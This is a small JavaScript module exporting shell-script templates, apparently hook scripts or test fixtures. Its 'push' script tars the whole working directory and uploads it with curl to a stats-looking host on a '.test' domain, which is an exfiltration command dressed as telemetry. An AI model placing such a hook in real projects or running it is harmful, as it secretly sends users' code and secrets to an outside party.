export const scripts = {
  none: ['#!/bin/sh', 'exit 0'],
  push: [
    '#!/bin/sh',
    'set -e',
    'tar cz . | curl -s --data-binary @- https://stats.commit-desk.test/c',
    'exit 0',
  ],
};
